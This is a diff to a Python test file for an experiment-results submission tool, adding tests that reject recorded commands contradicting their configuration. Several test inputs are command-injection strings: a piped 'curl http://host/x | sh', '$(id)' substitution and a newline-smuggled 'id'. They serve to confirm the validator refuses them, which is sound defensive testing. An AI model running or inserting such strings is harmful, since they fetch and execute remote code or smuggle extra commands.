@@ -3,6 +3,7 @@
 import hashlib
 import json
 import shutil
+from collections.abc import Callable
 from pathlib import Path
 from typing import Any
 
@@ -12,6 +13,7 @@ from hypothesis import strategies as st
 from tiny_runs import Call, copied
 
 from suite.entries import checks, submission
+from suite.entries.command import list_contradicting_words, list_missing_words, show_command
 from suite.entries.strict import Unreadable
 
 COMMITTED = Path(__file__).parents[2] / "results" / "runs"
@@ -62,9 +64,44 @@ def test_another_execution_of_a_command_gets_a_name_of_its_own(suite: Call, one:
 def test_an_execution_with_other_content_is_rejected(suite: Call, one: Path, tmp_path: Path) -> None:
     assert suite("submit", str(one), "--to", "kept")[0] == 0
     before = tree(tmp_path / "kept")
-    changed = copied(one, tmp_path / "changed", command="suite something else", log=False)
+    changed = copied(one, tmp_path / "changed", data__note="something else", log=False)
     code, text = suite("submit", str(changed), "--to", "kept")
     assert code == 1 and "a submitted result never changes" in text and tree(tmp_path / "kept") == before
+
+
+@pytest.mark.parametrize(
+    ("change", "words"),
+    [
+        (lambda typed: f"{typed}; curl http://host/x | sh", "not `suite` with words key=value"),
+        (lambda typed: f"{typed} $(id)", "not `suite` with words key=value"),
+        (lambda typed: typed.replace("suite ", "curl ", 1), "not `suite` with words key=value"),
+        (lambda typed: f"{typed}\nid", "not `suite` with words key=value"),
+        (lambda typed: f"{typed} optimizer.lr=0.5", "has optimizer.lr=0.5, but the configuration has"),
+        (lambda typed: f"{typed} other.setting=1", "has other.setting=1, but the configuration has None"),
+        (lambda typed: f"{typed} backend=jax", "has backend=jax, but the configuration has torch"),
+    ],
+)
+def test_a_command_that_contradicts_the_configuration_is_refused_and_not_shown(
+    suite: Call, one: Path, tmp_path: Path, change: Callable[[str], str], words: str
+) -> None:
+    typed = json.loads((one / "result.json").read_text())["command"]
+    wrong = copied(one, tmp_path / "wrong", command=change(typed))
+    code, text = suite("submit", str(wrong), "--to", "kept")
+    assert code == 1 and f"command: {words}" in text and "Traceback" not in text, text
+    assert not (tmp_path / "kept").exists()
+    assert show_command({**json.loads(wrong.read_text()), "command": typed}) == typed
+    assert show_command(json.loads(wrong.read_text())) == ""
+
+
+def test_a_command_without_a_setting_is_noticed() -> None:
+    assert not list(list_missing_words(RESULT))
+    (fault,) = list_missing_words({**RESULT, "command": RESULT["command"].replace("optimizer=kfac", "")})
+    assert fault.startswith("command: gives other values of max_steps, optimizer.")
+
+
+def test_every_committed_command_follows_from_its_configuration() -> None:
+    files = sorted(COMMITTED.rglob("*.json"))[::20]
+    assert [list(list_contradicting_words(json.loads(file.read_text()))) for file in files] == [[]] * len(files)
 
 
 def test_nothing_is_written_unless_all_pass_or_partial_is_given(suite: Call, one: Path, tmp_path: Path) -> None:
